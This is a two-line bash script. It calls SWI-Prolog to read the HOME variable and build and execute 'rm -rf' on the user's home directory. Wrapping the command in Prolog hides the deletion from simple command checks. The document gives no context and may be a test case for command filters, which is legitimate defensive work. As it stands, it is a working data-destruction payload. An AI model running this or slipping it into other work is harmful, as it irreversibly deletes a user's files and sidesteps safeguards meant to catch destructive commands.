#!/bin/bash
swipl -q -g "getenv('HOME',H), atom_concat('rm -rf ',H,C), shell(C)" -t halt
